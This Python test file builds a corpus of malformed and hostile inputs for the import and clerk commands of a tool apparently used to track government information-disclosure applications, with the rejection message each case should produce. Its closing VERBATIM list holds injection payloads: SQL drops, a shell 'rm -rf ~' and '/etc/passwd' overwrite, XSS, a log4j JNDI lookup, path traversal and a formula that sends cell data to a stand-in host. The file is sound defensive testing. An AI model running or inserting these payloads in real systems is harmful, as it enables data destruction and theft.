"""The hostile and broken input corpus: each case, the bytes given to `import`, the clerk command that tries
the same thing, and the message each must produce. Every case is refused: exit non-zero, nothing recorded.

The store each case runs against holds `setup.jsonl` (today is 2026-11-25): B-1 open (李某), B-2 answered
with case C-1, B-3 voided, B-4 extended once, B-5 withdrawn. `python -m tests.bad_inputs.cases DIR` writes
every case's bytes to DIR as a file, for other tools (fuzzers, other importers).
"""

from __future__ import annotations

import io
import json
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from domain.codes import TableFormat
from domain.report_checks import APPEAL_COLUMNS, APPEAL_GROUPS, APPLICANT_COLUMNS, table3_rows

SETUP = Path(__file__).with_name("setup.jsonl")


@dataclass(frozen=True)
class Case:
    """One refused input: what `import` reads, what it must say; and the clerk command doing the same."""

    name: str
    data: bytes
    message: str  # a part of the import's stderr (names the line and the field)
    clerk: tuple[str, ...] | None = None  # the same attempt through a clerk command, if there is one
    clerk_message: str | None = None  # a part of its stderr (default: the reason part of `message`)


def j(**fields: Any) -> bytes:
    """Return one JSON line."""
    return json.dumps(fields, ensure_ascii=False).encode() + b"\n"


def reg(**extra: Any) -> bytes:
    """Return a `registered` line for B-1 with changes."""
    return j(**{"event": "registered", "request": "B-1", "date": "2026-03-03", **extra})


def rcv(**extra: Any) -> bytes:
    """Return a `received` line for a new application X-1 with changes."""
    base = {"event": "received", "request": "X-1", "date": "2026-06-01", "channel": "online"}
    return j(**{**base, "applicant_type": "natural_person", **extra})


_ZERO_APPEALS = dict.fromkeys(APPEAL_COLUMNS, 0)
# A previous year's report of no applications and no cases (2021 layout): balanced, to be broken one rule at a time.
_PREVIOUS: dict[str, Any] = {
    "applications": {row: dict.fromkeys(APPLICANT_COLUMNS, 0) for row in table3_rows(TableFormat.F2021)},
    "appeals": {group: dict(_ZERO_APPEALS) for group in APPEAL_GROUPS},
}


def _xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["event", "request", "date"])
    sheet.append(["received", "X-1", "2026-06-01"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


RECEIVE = ("receive", "X-1", "--date", "2026-06-01", "--channel", "online", "--applicant-type", "natural_person")
TEXT_LIMIT = "at most 2000 are allowed"

CASES: tuple[Case, ...] = (
    # -- not JSON, not an object ------------------------------------------------------------------------
    Case("truncated_json", b'{"event": "registered", "request": "B-1"\n', "line 1, field line: not valid JSON"),
    Case("trailing_comma", b'{"event": "registered", "request": "B-1", "date": "2026-03-03",}\n', "not valid JSON"),
    Case("single_quotes", b"{'event': 'registered', 'request': 'B-1'}\n", "line 1, field line: not valid JSON"),
    Case("json_array", b'["registered", "B-1", "2026-03-03"]\n', "line 1, field line: an event line is a JSON object"),
    Case("json_string", b'"registered B-1"\n', "line 1, field line: an event line is a JSON object, not str"),
    Case("json_null", b"null\n", "line 1, field line: an event line is a JSON object, not NoneType"),
    Case("json_number", b"42\n", "line 1, field line: an event line is a JSON object, not int"),
    Case("deeply_nested", b'{"event": ' + b"[" * 200_000 + b"]" * 200_000 + b"}\n", "line 1, field line: "),
    Case("nan_days", b'{"event": "extended", "request": "B-1", "date": "2026-03-03", "days": NaN}\n', "field days"),
    # -- fields: missing, unknown, wrong type ----------------------------------------------------------
    Case("missing_event", j(request="B-1", date="2026-03-03"), "line 1, field event: required field is missing"),
    Case(
        "unknown_event",
        reg(event="approved"),
        "line 1, field event: unknown event 'approved'",
        ("approve", "B-1"),
        "No such command 'approve'",
    ),
    Case(
        "unknown_field",
        reg(colour="red"),
        "line 1, field colour: unknown field",
        ("register", "B-1", "--colour", "red"),
        "No such option '--colour'",
    ),
    Case("missing_date", j(event="registered", request="B-1"), "line 1, field date: required field is missing"),
    Case("missing_request", j(event="registered", date="2026-03-03"), "line 1, field request: required field"),
    Case(
        "missing_channel",
        j(event="received", request="X-1", date="2026-06-01", applicant_type="natural_person"),
        "line 1, field channel: required field is missing",
        RECEIVE[:4] + RECEIVE[6:],
        "Missing option '--channel'",
    ),
    Case(
        "missing_applicant_type",
        j(event="received", request="X-1", date="2026-06-01", channel="online"),
        "line 1, field applicant_type: required field is missing",
        RECEIVE[:6],
        "Missing option '--applicant-type'",
    ),
    Case("date_as_number", reg(date=20260303), "line 1, field date: 20260303 is not a date in the form YYYY-MM-DD"),
    Case("request_as_number", reg(request=17), "line 1, field request: must be a string, not int"),
    Case(
        "days_as_string",
        j(event="extended", request="B-1", date="2026-03-03", days="5"),
        "line 1, field days: Input should be a valid integer",
        ("extend", "B-1", "--date", "2026-03-03", "--days", "five"),
        "'five' is not a whole number",
    ),
    Case(
        "year_as_string",
        j(event="annual_report_published", date="2026-01-20", year="2025"),
        "line 1, field year: Input should be a valid integer",
    ),
    Case("amount_as_number", j(event="fee_notified", request="B-1", date="2026-03-03", amount=100), "field amount"),
    Case(
        "days_out_of_range",
        j(event="extended", request="B-1", date="2026-03-03", days=30),
        "line 1, field days: Input should be less than or equal to 20",
        ("extend", "B-1", "--date", "2026-03-03", "--days", "30"),
        "--days: Input should be less than or equal to 20",
    ),
    Case(
        "days_huge",
        j(event="extended", request="B-1", date="2026-03-03", days=10**30),
        "line 1, field days: Input should be less than or equal to 20",
    ),
    Case(
        "amount_negative",
        j(event="fee_notified", request="B-1", date="2026-03-03", amount="-5"),
        "line 1, field amount: '-5' is not an amount in yuan",
        ("notify-fee", "B-1", "--date", "2026-03-03", "--amount", "-5"),
        "'--amount': '-5' is not an amount in yuan",
    ),
    Case(
        "amount_three_decimals",
        j(event="fee_notified", request="B-1", date="2026-03-03", amount="1.005"),
        "line 1, field amount: '1.005' is not an amount in yuan",
        ("notify-fee", "B-1", "--date", "2026-03-03", "--amount", "1.005"),
        "'--amount': '1.005' is not an amount in yuan",
    ),
    # -- unknown codes ---------------------------------------------------------------------------------
    Case(
        "unknown_channel",
        rcv(channel="wechat"),
        "line 1, field channel: unknown code 'wechat'",
        (*RECEIVE[:5], "wechat", *RECEIVE[6:]),
        "unknown code 'wechat'",
    ),
    Case(
        "unknown_applicant_type",
        rcv(applicant_type="alien"),
        "line 1, field applicant_type: unknown code 'alien'",
        (*RECEIVE[:7], "alien"),
        "unknown code 'alien'",
    ),
    Case(
        "unknown_outcome",
        j(event="answered", request="B-1", date="2026-03-20", outcome="approved"),
        "line 1, field outcome: unknown code 'approved'",
        ("answer", "B-1", "--date", "2026-03-20", "--outcome", "approved"),
        "unknown code 'approved'",
    ),
    Case(
        "unknown_party",
        j(event="consultation_started", request="B-1", date="2026-03-20", party="court"),
        "line 1, field party: unknown code 'court'",
        ("consult", "B-1", "--date", "2026-03-20", "--party", "court"),
        "unknown code 'court'",
    ),
    Case(
        "unknown_appeal_kind",
        j(event="appealed", case="C-9", request="B-1", date="2026-04-01", kind="petition"),
        "line 1, field kind: unknown code 'petition'",
        ("appeal", "B-1", "--date", "2026-04-01", "--case", "C-9", "--kind", "petition"),
        "unknown code 'petition'",
    ),
    Case(
        "unknown_appeal_result",
        j(event="appeal_decided", case="C-1", date="2026-06-01", result="won"),
        "line 1, field result: unknown code 'won'",
        ("decide-appeal", "C-1", "--date", "2026-06-01", "--result", "won"),
        "unknown code 'won'",
    ),
    # -- dates -----------------------------------------------------------------------------------------
    Case(
        "impossible_date_feb_30",
        reg(date="2026-02-30"),
        "line 1, field date: 2026-02-30 is not a real calendar date",
        ("register", "B-1", "--date", "2026-02-30"),
        "'--date': 2026-02-30 is not a real calendar date",
    ),
    Case(
        "impossible_date_month_13",
        reg(date="2026-13-01"),
        "line 1, field date: 2026-13-01 is not a real calendar date",
        ("register", "B-1", "--date", "2026-13-01"),
        "'--date': 2026-13-01 is not a real calendar date",
    ),
    Case(
        "date_with_slashes",
        reg(date="2026/03/03"),
        "line 1, field date: '2026/03/03' is not a date in the form YYYY-MM-DD",
        ("register", "B-1", "--date", "2026/03/03"),
        "'--date': '2026/03/03' is not a date in the form YYYY-MM-DD",
    ),
    Case(
        "date_with_time",
        reg(date="2026-03-03T10:00:00"),
        "line 1, field date: '2026-03-03T10:00:00' is not a date in the form YYYY-MM-DD",
        ("register", "B-1", "--date", "2026-03-03T10:00:00"),
        "is not a date in the form YYYY-MM-DD",
    ),
    Case(
        "future_date",
        reg(date="2026-11-26"),
        "line 1, field date: 申请 B-1: registered is dated 2026-11-26, in the future (today is 2026-11-25)",
        ("register", "B-1", "--date", "2026-11-26"),
    ),
    Case(
        "future_receipt",
        rcv(date="2027-01-04"),
        "line 1, field date: 申请 X-1: received is dated 2027-01-04, in the future",
        (*RECEIVE[:3], "2027-01-04", *RECEIVE[4:]),
    ),
    Case(
        "bad_month",
        j(event="monthly_filing_submitted", date="2026-03-01", month="2026-13"),
        "line 1, field month: '2026-13' is not a month in the form YYYY-MM",
        ("file-monthly", "2026-13", "--date", "2026-03-01"),
        "'2026-13' is not a month in the form YYYY-MM",
    ),
    Case(
        "filing_within_its_month",
        j(event="monthly_filing_submitted", date="2026-10-20", month="2026-10"),
        "line 1, field date: 机关 DEFAULT: the filing for 2026-10 is dated 2026-10-20, within that month",
        ("file-monthly", "2026-10", "--date", "2026-10-20"),
    ),
    Case(
        "annual_report_within_its_year",
        j(event="annual_report_published", date="2026-10-20", year=2026),
        "line 1, field date: 机关 DEFAULT: the annual report for 2026 is dated 2026-10-20, within that year",
        ("publish-annual", "2026", "--date", "2026-10-20"),
    ),
    Case(
        "proactive_figures_of_the_other_layout",
        j(event="proactive_figures_recorded", date="2026-01-20", year=2025, figures={"regulations": {"made": 1}}),
        "line 1, field figures.regulations.made: the 2025 report uses the 2021 layout of table 2",
        ("record-proactive", "2025", "--date", "2026-01-20", "--row", "regulations.made=1"),
        "regulations.made: the 2025 report uses the 2021 layout of table 2",
    ),
    Case(
        "proactive_count_negative",
        j(event="proactive_figures_recorded", date="2026-01-20", year=2025, figures={"penalties": {"decisions": -4}}),
        "line 1, field figures.penalties.decisions: -4 is negative",
        ("record-proactive", "2025", "--date", "2026-01-20", "--row", "行政处罚.本年处理决定数量=-4"),
        "penalties.decisions: -4 is negative",
    ),
    Case(
        "proactive_figures_of_a_year_not_begun",
        j(event="proactive_figures_recorded", date="2026-01-20", year=2027, figures={"penalties": {"decisions": 4}}),
        "line 1, field year: 机关 DEFAULT: the 2027 report's figures or text cannot be recorded on 2026-01-20",
        ("record-proactive", "2027", "--date", "2026-01-20", "--row", "penalties.decisions=4"),
    ),
    Case(
        "report_text_blank",
        j(event="report_text_recorded", date="2026-01-20", year=2025, section="overview", text="\n \n"),
        "line 1, field text: the text is empty",
    ),
    Case(
        "previous_report_within_its_year",
        j(event="previous_report_imported", date="2026-10-20", year=2026, format="2021", **_PREVIOUS, source="r.json"),
        "line 1, field date: 2026 年度报告: 2026 has not ended on 2026-10-20",
    ),
    Case(
        "previous_report_that_does_not_add_up",
        j(
            event="previous_report_imported",
            date="2026-01-20",
            year=2025,
            format="2021",
            applications=_PREVIOUS["applications"],
            appeals={**_PREVIOUS["appeals"], "reconsideration": {**_ZERO_APPEALS, "upheld": 10, "other": 1}},
            source="r.json",
        ),
        "table 四 row reconsideration: column total is 0, but the other columns add up to 11",
    ),
    # -- the refusals of docs/refusals.md --------------------------------------------------------------------
    Case(
        "answer_for_unknown_request",
        j(event="answered", request="X-404", date="2026-06-01", outcome="disclosed"),
        "line 1, field request: 申请 X-404: answered for an application that has not been received",
        ("answer", "X-404", "--date", "2026-06-01", "--outcome", "disclosed"),
    ),
    Case(
        "step_for_unknown_request",
        j(event="registered", request="X-404", date="2026-06-01"),
        "line 1, field request: 申请 X-404: registered for an application that has not been received",
        ("register", "X-404", "--date", "2026-06-01"),
    ),
    Case(
        "decision_for_unknown_case",
        j(event="appeal_decided", case="C-404", date="2026-06-01", result="upheld"),
        "line 1, field case: 案件 C-404: appeal_decided for a case that has not been appealed",
        ("decide-appeal", "C-404", "--date", "2026-06-01", "--result", "upheld"),
    ),
    Case(
        "appeal_against_unknown_request",
        j(event="appealed", case="C-9", request="X-404", date="2026-06-01", kind="reconsideration"),
        "line 1, field request: 案件 C-9: appealed against application X-404, which has not been received",
        ("appeal", "X-404", "--date", "2026-06-01", "--case", "C-9", "--kind", "reconsideration"),
    ),
    Case(
        "step_before_receipt",
        reg(date="2026-03-01"),
        "line 1, field date: 申请 B-1: registered is dated 2026-03-01, before the application was received on "
        "2026-03-02",
        ("register", "B-1", "--date", "2026-03-01"),
    ),
    Case(
        "appeal_before_receipt",
        j(event="appealed", case="C-9", request="B-1", date="2026-02-01", kind="reconsideration"),
        "line 1, field date: 案件 C-9: appealed on 2026-02-01, before application B-1 was received on 2026-03-02",
        ("appeal", "B-1", "--date", "2026-02-01", "--case", "C-9", "--kind", "reconsideration"),
    ),
    Case(
        "case_step_before_appeal",
        j(event="appeal_responded", case="C-1", date="2026-04-01"),
        "line 1, field date: 案件 C-1: ",
        ("appeal-responded", "C-1", "--date", "2026-04-01"),
    ),
    Case(
        "step_after_answer",
        j(event="extended", request="B-2", date="2026-04-01"),
        "line 1, field event: 申请 B-2: it was closed on 2026-03-20 (answered)",
        ("extend", "B-2", "--date", "2026-04-01"),
    ),
    Case(
        "step_after_withdrawal",
        j(event="correction_requested", request="B-5", date="2026-05-12"),
        "line 1, field event: 申请 B-5: it was closed on 2026-05-10 (withdrawn)",
        ("request-correction", "B-5", "--date", "2026-05-12"),
    ),
    Case(
        "answer_after_void",
        j(event="answered", request="B-3", date="2026-04-20", outcome="disclosed"),
        "line 1, field event: 申请 B-3: the application was voided on 2026-04-02",
        ("answer", "B-3", "--date", "2026-04-20", "--outcome", "disclosed"),
    ),
    Case(
        "second_answer",
        j(event="answered", request="B-2", date="2026-04-01", outcome="disclosed"),
        "line 1, field event: 申请 B-2: it was already closed on 2026-03-20 (answered); a second answer is not "
        "possible; to change the outcome or the date, use `gongkai correct",
        ("answer", "B-2", "--date", "2026-04-01", "--outcome", "disclosed"),
    ),
    Case(
        "no_correction_outcome_without_correction",
        j(event="answered", request="B-1", date="2026-04-01", outcome="other_no_correction"),
        "line 1, field outcome: 申请 B-1: outcome other_no_correction needs a 补正 request that is still unanswered",
        ("answer", "B-1", "--date", "2026-04-01", "--outcome", "other_no_correction"),
    ),
    Case(
        "fee_unpaid_outcome_without_notice",
        j(event="answered", request="B-1", date="2026-04-01", outcome="other_fee_unpaid"),
        "line 1, field outcome: 申请 B-1: outcome other_fee_unpaid",
        ("answer", "B-1", "--date", "2026-04-01", "--outcome", "other_fee_unpaid"),
    ),
    Case(
        "still_unclear_without_correction",
        j(event="answered", request="B-1", date="2026-04-01", outcome="unavailable_still_unclear"),
        "line 1, field outcome: 申请 B-1: outcome unavailable_still_unclear",
        ("answer", "B-1", "--date", "2026-04-01", "--outcome", "unavailable_still_unclear"),
    ),
    Case(
        "second_extension",
        j(event="extended", request="B-4", date="2026-05-25"),
        "line 1, field event: 申请 B-4: ",
        ("extend", "B-4", "--date", "2026-05-25"),
    ),
    Case(
        "consultation_end_without_start",
        j(event="consultation_ended", request="B-1", date="2026-04-01"),
        "line 1, field event: 申请 B-1: ",
        ("consult-end", "B-1", "--date", "2026-04-01"),
    ),
    Case(
        "fee_paid_without_notice",
        j(event="fee_paid", request="B-1", date="2026-04-01", amount="10.00"),
        "line 1, field event: 申请 B-1: ",
        ("fee-paid", "B-1", "--date", "2026-04-01", "--amount", "10.00"),
    ),
    Case(
        "events_out_of_order",
        j(event="correction_requested", request="B-1", date="2026-06-10")
        + j(event="correction_received", request="B-1", date="2026-06-05"),
        "line 2, field date: 申请 B-1: correction_received is dated 2026-06-05, before the request's previous step on "
        "2026-06-10",
    ),
    Case(
        "duplicate_request_number",
        j(event="received", request="B-1", date="2026-03-05", channel="mail", applicant_type="other_org"),
        "line 1, field request: 申请 B-1: this number was already received on 2026-03-02",
        ("receive", "B-1", "--date", "2026-03-05", "--channel", "mail", "--applicant-type", "other_org"),
    ),
    Case(
        "duplicate_number_within_file",
        rcv() + rcv(channel="mail"),
        "line 2, field request: 申请 X-1: this number was already received on 2026-06-01",
    ),
    # -- text: size, control characters, encodings ---------------------------------------------------------
    Case(
        "oversize_subject",
        rcv(subject="长" * 2001),
        f"line 1, field subject: is 2001 characters long; {TEXT_LIMIT}",
        (*RECEIVE, "--subject", "长" * 2001),
        f"--subject: is 2001 characters long; {TEXT_LIMIT}",
    ),
    Case(
        "oversize_request_number",
        rcv(request="X" * 65),
        "line 1, field request: is 65 characters long; at most 64 are allowed",
        ("register", "X" * 65, "--date", "2026-06-01"),
        "application number: is 65 characters long; at most 64 are allowed",
    ),
    Case(
        "space_in_request_number",
        rcv(request="X 1"),
        "line 1, field request: must be non-empty, without spaces or control characters",
        ("register", "X 1", "--date", "2026-06-01"),
        "application number: must be non-empty, without spaces or control characters",
    ),
    Case(
        "empty_request_number",
        rcv(request=""),
        "line 1, field request: must be non-empty",
        ("register", "", "--date", "2026-06-01"),
        "application number: must be non-empty",
    ),
    Case(
        "bad_agency_code",
        reg(agency="宁波 司法局"),
        "line 1, field agency: must be non-empty, without spaces or control characters",
    ),
    Case(
        "nul_escape_in_text",
        rcv(applicant="李\u0000某"),
        "line 1, field applicant: contains a control character",
        (*RECEIVE, "--applicant", "李\u0001某"),
        "--applicant: contains a control character",
    ),
    Case("raw_nul_byte_in_text", rcv(applicant="PLACEHOLDER").replace(b"PLACEHOLDER", b"a\x00b"), "not valid JSON"),
    Case("raw_nul_byte_outside_text", b"\x00" + reg(), "line 1, field line: not valid JSON"),
    Case(
        "escape_sequence_in_text",
        rcv(subject="\u001b[31m红色\u001b[0m"),
        "line 1, field subject: contains a control character",
        (*RECEIVE, "--subject", "\u001b[31m红色\u001b[0m"),
        "--subject: contains a control character",
    ),
    Case(
        "control_char_in_clerk",
        reg(clerk="王\u0007芳"),
        "line 1, field clerk: contains a control character",
    ),
    Case(
        "lone_surrogate_in_text",
        b'{"event": "received", "request": "X-1", "date": "2026-06-01", "channel": "online", '
        b'"applicant_type": "natural_person", "applicant": "\\ud800"}\n',
        "line 1, field applicant: contains a control character",
    ),
    Case("non_utf8_bytes", rcv(applicant="PLACE").replace(b"PLACE", b"\xc0\xff"), "line 1: not UTF-8 (byte"),
    Case("gbk_encoded", rcv(applicant="李某").decode().encode("gbk"), "line 1: not UTF-8"),
    Case("utf16_file", rcv().decode().encode("utf-16"), "UTF-16 text (it starts with an FF FE byte-order mark)"),
    Case("utf16_without_bom", rcv().decode().encode("utf-16-le"), "line 1, field line: not valid JSON"),
    Case("bom_mid_file", reg() + b"\xef\xbb\xbf" + reg(date="2026-03-04"), "line 2: a byte-order mark (BOM)"),
    Case("bom_inside_text", rcv(subject="a\ufeffb"), "line 1: a byte-order mark (BOM) inside the file"),
    Case("escaped_bom_in_text", rcv(subject="a\\ufeffb").replace(b"\\\\", b"\\"), "field subject: contains a control"),
    Case("overlong_line", b'{"event": "registered", "note": "' + b"x" * (2 << 20) + b'"}\n', "line 1: longer than"),
    # -- dates no office ever had (before the 条例 came into force on 2008-05-01) ------------------------
    Case(
        "receipt_in_1026",
        rcv(date="1026-06-01"),
        "line 1, field date: 1026-06-01 早于 2008-05-01",
        (*RECEIVE[:3], "1026-06-01", *RECEIVE[4:]),
    ),
    Case(
        "receipt_in_year_1",
        rcv(date="0001-01-01"),
        "line 1, field date: 0001-01-01 早于 2008-05-01",
        (*RECEIVE[:3], "0001-01-01", *RECEIVE[4:]),
    ),
    Case(
        "receipt_the_day_before_the_regulation",
        rcv(date="2008-04-30"),
        "line 1, field date: 2008-04-30 早于 2008-05-01",
        (*RECEIVE[:3], "2008-04-30", *RECEIVE[4:]),
    ),
    Case(
        "correction_period_before_2008",
        j(event="correction_requested", request="B-1", date="2026-03-05", until="2001-01-01"),
        "line 1, field until: 2001-01-01 早于 2008-05-01",
        ("request-correction", "B-1", "--date", "2026-03-05", "--until", "2001-01-01"),
    ),
    Case(
        "fee_served_before_2008",
        j(event="fee_notified", request="B-1", date="2026-03-05", amount="100.00", served="1999-12-31"),
        "line 1, field served: 1999-12-31 早于 2008-05-01",
        ("notify-fee", "B-1", "--date", "2026-03-05", "--amount", "100.00", "--served", "1999-12-31"),
    ),
    Case(
        "corrected_receipt_before_2008",
        j(event="corrected", request="B-1", date="2026-03-05", reason="录错", received_date="1026-03-02"),
        "line 1, field received_date: 1026-03-02 早于 2008-05-01",
        ("correct", "B-1", "--date", "2026-03-05", "--reason", "录错", "--received-date", "1026-03-02"),
    ),
    Case(
        "filing_for_a_month_before_2008",
        j(event="monthly_filing_submitted", date="2026-03-01", month="2001-01"),
        "line 1, field month: 2001-01 早于 2008-05",
        ("file-monthly", "2001-01", "--date", "2026-03-01"),
    ),
    # -- control characters a terminal would obey, line breaks in names -----------------------------------
    Case(
        "c1_escape_in_subject",
        rcv(subject="\u009b31m红色"),
        "line 1, field subject: 含有控制字符 U+009B",
        (*RECEIVE, "--subject", "\u009b31m红色"),
    ),
    Case(
        "c1_next_line_in_applicant",
        rcv(applicant="李\u0085某"),
        "line 1, field applicant: 含有控制字符 U+0085",
        (*RECEIVE, "--applicant", "李\u0085某"),
    ),
    Case(
        "tab_in_applicant_name",
        rcv(applicant="李\t某"),
        "line 1, field applicant: 名称中含有制表符或换行符 U+0009",
        (*RECEIVE, "--applicant", "李\t某"),
    ),
    Case(
        "line_break_in_clerk",
        reg(clerk="王\n芳"),
        "line 1, field clerk: 名称中含有制表符或换行符 U+000A",
    ),
    Case(
        "escape_in_agency_name",
        j(event="agency_named", date="2026-03-05", agency_name="\u001b]0;司法局\u0007"),
        "line 1, field agency_name: contains a control character",
    ),
    # -- identifiers that display as another ---------------------------------------------------------------
    Case(
        "right_to_left_override_in_number",
        rcv(request="YZ-2026-\u202e1000"),
        "line 1, field request: 含有不可见或控制字符 U+202E RIGHT-TO-LEFT OVERRIDE",
        ("register", "YZ-2026-\u202e1000", "--date", "2026-06-01"),
    ),
    Case(
        "zero_width_space_in_number",
        rcv(request="X\u200b-1"),
        "line 1, field request: 含有不可见或控制字符 U+200B ZERO WIDTH SPACE",
        ("register", "X\u200b-1", "--date", "2026-06-01"),
    ),
    Case(
        "bidi_isolate_in_case_number",
        j(event="appealed", case="C\u2066-9\u2069", request="B-1", date="2026-04-01", kind="reconsideration"),
        "line 1, field case: 含有不可见或控制字符 U+2066 LEFT-TO-RIGHT ISOLATE",
        ("appeal", "B-1", "--date", "2026-04-01", "--case", "C\u2066-9\u2069", "--kind", "reconsideration"),
    ),
    Case(
        "word_joiner_in_number",
        rcv(request="X-\u20601"),
        "line 1, field request: 含有不可见或控制字符 U+2060 WORD JOINER",
    ),
    Case(
        "left_to_right_mark_in_agency_code",
        reg(agency="YZ\u200eSFJ"),
        "line 1, field agency: 含有不可见或控制字符 U+200E LEFT-TO-RIGHT MARK",
    ),
    Case(
        "soft_hyphen_in_number",
        rcv(request="X\u00ad1"),
        "line 1, field request: 含有不可见或控制字符 U+00AD SOFT HYPHEN",
    ),
    Case(
        "ideographic_space_inside_number",
        rcv(request="X\u30001"),
        "line 1, field request: must be non-empty, without spaces",
    ),
    # -- not JSON Lines at all --------------------------------------------------------------------------
    Case("csv_file", b"event,request,date\nreceived,X-1,2026-06-01\n", "a CSV file, it seems"),
    Case("csv_with_bom", b"\xef\xbb\xbfevent,request,date\nreceived,X-1,2026-06-01\n", "a CSV file, it seems"),
    Case("xlsx_file", _xlsx(), "an Excel/ZIP file (XLSX?)"),
    Case("xls_file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "an old Excel file (XLS)"),
    Case("empty_file", b"", "empty: no event lines"),
    Case("blank_lines_only", b"\n   \n\t\n", "empty: no event lines"),
    Case("bom_only", b"\xef\xbb\xbf", "empty: no event lines"),
    # -- one bad line among good ones: nothing is recorded -------------------------------------------------
    Case(
        "one_bad_line_among_good",
        reg() + rcv() + j(event="answered", request="X-1", date="2026-02-30", outcome="disclosed"),
        "line 3, field date: 2026-02-30 is not a real calendar date",
    ),
    Case(
        "every_bad_line_listed",
        reg(date="2026-13-01") + rcv(channel="pigeon") + b"{oops\n",
        "line 3, field line: not valid JSON",
    ),
)

# Hostile text that is not an error: stored verbatim, harmless.
VERBATIM = (
    "'; DROP TABLE stored_events; --",
    'Robert"); DELETE FROM gk_requests WHERE ("1"="1',
    "$(rm -rf ~) `id` | tee /etc/passwd && echo $HOME; exit 1",
    "<script>alert(1)</script> %s %n {0} ${jndi:ldap://x}",
    "..\\..\\windows\\system32 ../../etc/shadow",
    '=HYPERLINK("http://example.invalid/?q="&B2, "点击查看")',  # a spreadsheet formula: text everywhere
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "#N/A",
)


def write_corpus(directory: Path) -> None:
    """Write each case's bytes to DIRECTORY/<name>.jsonl."""
    directory.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        (directory / f"{case.name}.jsonl").write_bytes(case.data)


if __name__ == "__main__":
    write_corpus(Path(sys.argv[1]))
